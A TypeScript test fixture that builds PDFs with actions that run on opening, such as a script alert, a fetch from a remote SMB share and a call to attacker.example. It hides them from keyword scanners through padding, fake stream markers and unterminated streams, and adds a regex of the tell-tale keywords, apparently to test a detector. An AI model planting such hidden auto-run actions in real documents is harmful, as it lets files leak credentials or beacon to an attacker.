import * as files from './files-for-test.ts';

/** PDFs that do something by themselves when they are opened, hidden from readers that look for words. */

const ACTIONS: readonly (readonly [what: string, action: string])[] = [
  ['runs a script', '<< /S /JavaScript /JS (app.alert) >>'],
  ['opens a file of another computer', '<< /S /GoToR /F (\\\\\\\\192.0.2.1\\\\share\\\\a.pdf) /D [0 /Fit] >>'],
  ['opens an address', '<< /S /URI /URI (https://attacker.example/seen) >>'],
];

const VEILS: readonly (readonly [how: string, file: (action: string) => Buffer])[] = [
  ['openly', (action) => files.pdfFile([], { catalog: `/OpenAction ${action}` })],
  ['in an object of its own', (action) => files.pdfFile([action], { catalog: '/OpenAction 5 0 R' })],
  [
    'among packed objects behind 2,000 letters',
    (action) =>
      files.pdfFile(
        [files.packedObjects(`9 0 ${action}`).replace('/ObjStm', `/ObjStm /Padding (${'x'.repeat(3000)})`)],
        { catalog: '/OpenAction 9 0 R' },
      ),
  ],
  [
    'behind an object that stands in a text',
    (action) => files.pdfFile([], { catalog: `/Title (7 0 obj << >> endobj ) /OpenAction ${action}` }),
  ],
  [
    'behind a stream that stands in a text',
    (action) => files.pdfFile([], { catalog: `/Title (stream) /OpenAction ${action}`, page: '/Note (endstream)' }),
  ],
  [
    'behind a stream that never ends',
    (action) => files.pdfFile(['<< /Title (stream ) >>', action], { catalog: '/OpenAction 6 0 R' }),
  ],
];

/** Each action behind each veil. */
export const HIDDEN_ACTIONS: readonly (readonly [what: string, content: Buffer])[] = ACTIONS.flatMap(([what, action]) =>
  VEILS.map(([how, file]) => [`a PDF that ${what}, ${how}`, file(action)] as const),
);

/** Traces of an action that a saved file may not have. */
export const TRACES = /OpenAction|JavaScript|GoToR|URI|ObjStm|app\.alert|192\.0\.2\.1|attacker/;
